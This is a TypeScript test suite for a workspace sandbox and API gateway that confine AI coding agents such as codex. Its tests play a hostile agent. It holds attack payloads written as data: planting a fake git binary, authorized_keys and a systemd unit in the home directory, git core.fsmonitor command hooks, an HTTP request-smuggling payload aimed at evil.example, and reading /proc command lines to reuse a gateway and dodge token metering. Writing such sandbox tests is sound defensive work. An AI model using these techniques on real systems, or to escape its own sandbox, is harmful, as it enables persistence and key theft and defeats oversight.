/**
 * Played as a determined agent under --sandbox workspace (issue 45, a later review): holes left
 * after the first attacker's fixes. Each is judged outside, on disk: what is in the person's home
 * or tree after the run, and what the person's next git command there runs.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import type net from "node:net";
import path from "node:path";
import { output, terminal, useHomes, useScratches } from "./helpers/fixtures.js";
import { liData } from "./helpers/li.js";
import { sandboxSuite } from "./helpers/sandbox.js";
import { installHostileClis } from "./helpers/hostile-cli.js";

const describeSandbox = sandboxSuite("sandbox-attack-s53.test.ts");

/**
 * An OpenAI upstream as the real one behaves: a streamed chat completion carries a usage chunk only
 * when `stream_options.include_usage` asks for it, and a background response answers `queued` with
 * no usage (the usage comes with a later GET). What it served (and would bill) is counted.
 */
function startOpenai(): Promise<{ url: string; served: { input: number; output: number }; seen: any[]; close: () => Promise<void> }> {
  const served = { input: 0, output: 0 };
  const seen: any[] = [];
  const server = http.createServer((req, res) => {
    let b = "";
    req.on("data", (d) => (b += d)).on("end", () => {
      let j: any = {};
      try {
        j = JSON.parse(b);
      } catch {}
      seen.push({ method: req.method, url: req.url, body: j, authorization: req.headers.authorization });
      const usage = { prompt_tokens: 1000, completion_tokens: 500, total_tokens: 1500 };
      if (req.method === "POST" && /\/chat\/completions$/.test(req.url ?? "") && j.stream) {
        served.input += 1000;
        served.output += 500;
        res.writeHead(200, { "content-type": "text/event-stream" });
        const chunk = (delta: any, u?: any) => `data: ${JSON.stringify({ id: "c1", object: "chat.completion.chunk", model: "gpt-4o", choices: delta ? [{ index: 0, delta }] : [], ...(u ? { usage: u } : {}) })}\n\n`;
        res.write(chunk({ content: "hello" }));
        if (j.stream_options?.include_usage) res.write(chunk(null, usage));
        return res.end("data: [DONE]\n\n");
      }
      if (req.method === "POST" && /\/responses$/.test(req.url ?? "") && j.background) {
        served.input += 1000;
        served.output += 500;
        return res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ id: "resp_bg", object: "response", status: "queued", model: "gpt-4o", usage: null }));
      }
      res.writeHead(404, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "not here" } }));
    });
  });
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () =>
      resolve({ url: `http://127.0.0.1:${(server.address() as net.AddressInfo).port}/v1`, served, seen, close: () => new Promise((r) => server.close(() => r())) }),
    ),
  );
}

describeSandbox("the agent's own OpenAI calls through the gateway are metered", () => {
  const homes = useHomes({ stopRuns: true });
  const scratchDir = useScratches("li-atk-s53-");

  test("a streamed chat completion without include_usage is given it, and a background response is refused: the record is never under what the upstream served", async () => {
    const fake = await startOpenai();
    try {
      const h = homes();
      const scratch = scratchDir();
      const work = path.join(scratch, "work");
      fs.mkdirSync(work);
      const bin = installHostileClis(scratch);
      const env = { ...h.env, HOME: path.join(scratch, "person"), PATH: `${bin}:${process.env.PATH}`, OPENAI_BASE_URL: fake.url, OPENAI_API_KEY: "sk-openai-real-key" };
      // The gateway's URL is in codex's command line (li gives it with -c); the step calls it itself.
      const code = `const base = process.argv[1]; const go = (p, body) => fetch(base + p, { method: "POST", headers: { "content-type": "application/json", authorization: "Bearer " + process.env.LI_GATEWAY_KEY }, body: JSON.stringify(body) }).then((r) => r.text()).then((t) => console.log(p, t.length));
(async () => { await go("/chat/completions", { model: "gpt-4o", stream: true, messages: [{ role: "user", content: "hi" }] }); await go("/responses", { model: "gpt-4o", background: true, input: "hi" }); })();`;
      const step = `B=$(tr '\\0' '\\n' < /proc/$PPID/cmdline | grep -o 'base_url="[^"]*"' | head -1 | sed 's/base_url="//; s/"$//'); echo "base=$B"; "${process.execPath}" -e '${code}' "$B"`;
      const r = await liData(["agent", "--detach", "--sandbox", "workspace", "codex/gpt-4o", step], { env, cwd: work });
      const done = await terminal(env, r.id, 60_000);
      expect(done).toMatchObject({ status: "completed", usage_source: "gateway" });
      expect((await output(env, r.id)).output).toMatch(/base=http:\/\/127\.0\.0\.1:\d+\/li-gw\//);
      // The chat call reached the upstream (with include_usage); the background one never did.
      expect(fake.seen.map((q) => `${q.method} ${q.url}`)).toEqual(["POST /v1/chat/completions"]);
      expect(fake.seen[0].body.stream_options).toEqual({ include_usage: true });
      expect(done.usage.input_tokens).toBeGreaterThanOrEqual(fake.served.input);
      expect(done.usage.output_tokens).toBeGreaterThanOrEqual(fake.served.output);
    } finally {
      await fake.close();
    }
  }, 90_000);
});

describeSandbox("checkout runs whose tree git does not know, or that hold the home", () => {
  const homes = useHomes({ stopRuns: true });
  const scratchDir = useScratches("li-atk-s53-");

  test("a run started in the home is refused: the home would be writable whole (a program ahead of the person's on PATH, authorized_keys, a systemd unit)", async () => {
    const h = homes();
    const person = path.join(scratchDir(), "person");
    fs.mkdirSync(path.join(person, ".local", "bin"), { recursive: true });
    const env = { ...h.env, HOME: person, LI_TEST_HOSTILE_MOCK: "1" };
    const planted = [".local/bin/git", ".ssh/authorized_keys", ".config/systemd/user/x.service", ".config/git/config"];
    const prompt = `sh cd ~ && for f in ${planted.join(" ")}; do mkdir -p "$(dirname $f)"; echo pwn > "$f"; done; echo tried`;
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", prompt], { env, cwd: person });
    const done = await terminal(env, r.id, 60_000);
    expect(done.status).toBe("failed");
    expect(JSON.stringify(done)).toContain("sandbox_failed");
    for (const f of planted) expect(fs.existsSync(path.join(person, f))).toBe(false);
    expect(String((await output(env, r.id)).output ?? "") + JSON.stringify(done)).not.toContain("tried");
  }, 90_000);

  test("a tree that is no repository: its files that run code at any depth stay as they were, and the ones the agent made (a .git at its top, a nested one, .vscode/) leave the tree", async () => {
    const h = homes();
    const tree = path.join(scratchDir(), "work");
    fs.mkdirSync(path.join(tree, "sub"), { recursive: true });
    fs.writeFileSync(path.join(tree, "sub", ".envrc"), "echo hi\n");
    const marker = path.join(path.dirname(tree), "PWNED");
    const env = { ...h.env, LI_TEST_HOSTILE_MOCK: "1" };
    const prompt = [
      "sh echo 'touch /tmp/x' >> sub/.envrc; echo appended",
      "sh mkdir -p a/.vscode && echo '{}' > a/.vscode/tasks.json; echo vscode",
      `sh git init -q . && git config core.fsmonitor 'touch ${marker}; false' && git init -q b && git -C b config core.fsmonitor 'touch ${marker}; false'; echo inited`,
    ].join("\n");
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", prompt], { env, cwd: tree });
    const done = await terminal(env, r.id, 60_000);
    expect(done.status).toBe("completed");
    expect((await output(env, r.id)).output).toContain("inited");
    expect(fs.readFileSync(path.join(tree, "sub", ".envrc"), "utf8")).toBe("echo hi\n");
    for (const made of [".git", "b/.git", "a/.vscode"]) expect(fs.existsSync(path.join(tree, made))).toBe(false);
    expect(done.sandbox.held).toEqual(expect.arrayContaining([".git", "b/.git", "a/.vscode"]));
    // The person's next git command in either directory runs nothing of the agent's.
    for (const dir of [tree, path.join(tree, "b")]) {
      try {
        execFileSync("git", ["status"], { cwd: dir, stdio: "ignore", env: { ...process.env, GIT_CEILING_DIRECTORIES: path.dirname(tree) } });
      } catch {}
    }
    expect(fs.existsSync(marker)).toBe(false);
  }, 90_000);
});

describeSandbox("the proxy frames every request as the upstream will", () => {
  const homes = useHomes({ stopRuns: true });
  const scratchDir = useScratches("li-atk-s53-");

  test("a header line holding a bare LF (a Transfer-Encoding the proxy would not see) cannot smuggle a request for another Host past it", async () => {
    // An allowed upstream that, like many servers, takes a bare LF as a line's end and routes by Host.
    const hosts: string[] = [];
    const upstream = http.createServer({ insecureHTTPParser: true }, (req, res) => {
      hosts.push(String(req.headers.host));
      req.resume();
      req.on("end", () => res.end("ok\n"));
    });
    await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", () => r()));
    try {
      const port = (upstream.address() as net.AddressInfo).port;
      const h = homes();
      fs.writeFileSync(path.join(h.home, "settings.yaml"), `sandbox:\n  allow_hosts: ["127.0.0.1:${port}"]\n`);
      const scratch = scratchDir();
      const env = { ...h.env, LI_TEST_HOSTILE_MOCK: "1" };
      const code = `const net = require("net"); const p = new URL(process.env.HTTP_PROXY);
const smuggled = "GET /x HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"; const body = "0\\r\\n\\r\\n" + smuggled;
const head = "POST http://127.0.0.1:${port}/a HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nContent-Length: " + body.length + "\\r\\nX: y\\nTransfer-Encoding: chunked\\r\\n\\r\\n";
const c = net.connect(Number(p.port), p.hostname, () => c.write(head + body)); let got = ""; c.on("data", (d) => (got += d)); c.on("close", () => console.log("answers: " + (got.match(/HTTP\\/1\\.1 \\d+/g) || []).join(","))); setTimeout(() => c.destroy(), 3000);`;
      // One line: the mock runs the rest of its prompt line as one shell step.
      const prompt = `sh "${process.execPath}" -e '${code.replace(/\n/g, " ")}'`;
      const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", prompt], { env, cwd: scratch });
      const done = await terminal(env, r.id, 60_000);
      expect(done.status).toBe("completed");
      expect((await output(env, r.id)).output).toContain("answers: ");
      expect(hosts).not.toContain("evil.example");
    } finally {
      await new Promise((r) => upstream.close(r));
    }
  }, 90_000);
});

describe("the gateway of an unsandboxed codex run (gateway: on)", () => {
  const homes = useHomes({ stopRuns: true });
  const scratchDir = useScratches("li-atk-s53-");

  test("another local process that reads the gateway's URL from codex's command line (as ps shows it) cannot spend the person's key through it", async () => {
    const fake = await startOpenai();
    try {
      const h = homes();
      fs.writeFileSync(path.join(h.home, "settings.yaml"), "gateway: on\n");
      const scratch = scratchDir();
      const work = path.join(scratch, "work");
      fs.mkdirSync(work);
      const bin = installHostileClis(scratch);
      const go = path.join(scratch, "go");
      const KEY = "sk-openai-real-key-of-the-person";
      const env = { ...h.env, HOME: path.join(scratch, "person"), PATH: `${bin}:${process.env.PATH}`, OPENAI_BASE_URL: fake.url, OPENAI_API_KEY: KEY };
      // The run waits until the test has played the other process.
      const r = await liData(["agent", "--detach", "codex/gpt-4o", `while [ ! -f ${go} ]; do sleep 0.1; done; echo released`], { env, cwd: work });
      let base: string | null = null;
      for (let i = 0; i < 600 && !base; i++) {
        for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
          let cmd = "";
          try {
            cmd = fs.readFileSync(`/proc/${pid}/cmdline`, "latin1");
          } catch {}
          const m = /base_url="(http:\/\/127\.0\.0\.1:\d+\/li-gw\/[0-9a-f]+)"/.exec(cmd);
          if (m && cmd.includes(bin)) base = m[1];
        }
        if (!base) await new Promise((res) => setTimeout(res, 100));
      }
      expect(base).not.toBeNull();
      const status = await fetch(`${base}/chat/completions`, { method: "POST", headers: { "content-type": "application/json", authorization: "Bearer li-gateway-placeholder-key" }, body: JSON.stringify({ model: "gpt-4o", stream: true, messages: [{ role: "user", content: "hi" }] }) }).then((res) => res.status);
      fs.writeFileSync(go, "");
      const done = await terminal(env, r.id, 60_000);
      expect(done.status).toBe("completed");
      expect(typeof status).toBe("number");
      // Whatever reached the upstream from the outsider carried no key of the person's.
      expect(fake.seen.length).toBeGreaterThan(0);
      for (const q of fake.seen) expect(JSON.stringify(q)).not.toContain(KEY);
    } finally {
      await fake.close();
    }
  }, 90_000);
});
